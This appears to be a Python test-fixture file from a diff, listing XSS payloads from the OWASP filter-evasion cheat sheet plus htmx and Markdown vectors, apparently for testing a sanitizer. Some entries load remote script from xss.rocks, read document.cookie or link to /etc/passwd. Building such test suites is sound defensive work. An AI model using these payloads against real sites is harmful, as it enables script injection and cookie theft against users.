@@ -1,0 +1,82 @@
+"""XSS payloads: the OWASP XSS Filter Evasion Cheat Sheet
+(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
+htmx attribute vectors, and Markdown-specific vectors (link and image
+destinations, autolinks, reference links, code spans that must stay escaped)."""
+
+OWASP = [
+    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
+    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039"
+    "&#0000041\">",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;"
+    "&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<svg/onload=alert('XSS')>",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQ"
+    "oMSk8L3NjcmlwdD48L3N2Zz4=\" type=\"image/svg+xml\"></EMBED>",
+    "<a href=\"javascript:alert(1)\">raw</a>",
+    "<a href=\"&#x6A;avascript:alert(1)\">entity</a>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
+    "<div hx-get=\"/\" hx-trigger=\"load\" hx-on:htmx:load=\"alert(1)\">htmx</div>",
+    "<div hx-on::after-request=\"alert(1)\" data-hx-on-click=\"alert(1)\">htmx</div>",
+    "<div hx-vals='js:{a: alert(1)}' hx-post=\"/notifications/read/\" hx-trigger=\"load\">htmx</div>",
+    "\"><script>alert(1)</script>",
+    "'><svg onload=alert(1)>",
+]
+
+MARKDOWN = [
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "<javascript:alert(1)>",
+    "![x](x\"onerror=\"alert(1))",
+    "![x](javascript:alert(1))",
+    "[ref][r]\n\n[r]: javascript:alert(1)",
+    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[v](vbscript:msgbox(1))",
+    "[t](https://ok.example/ \"title\\\" onmouseover=\\\"alert(1)\")",
+    "<https://ok.example/\" onclick=\"alert(1)>",
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    "[file](file:///etc/passwd) [ftp](ftp://x.example/) [ssh](ssh://x.example/)",
+]
+
+ALL = OWASP + MARKDOWN
